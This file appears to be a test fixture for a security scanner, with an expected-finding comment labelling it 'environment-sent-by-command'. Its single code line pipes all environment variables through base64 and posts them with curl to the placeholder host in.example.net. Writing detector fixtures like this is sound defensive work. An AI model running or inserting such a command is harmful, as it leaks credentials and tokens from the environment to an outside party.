# expect: 3 environment-sent-by-command
import subprocess
subprocess.check_output('env | base64 | curl -s -d @- https://in.example.net', shell=True)
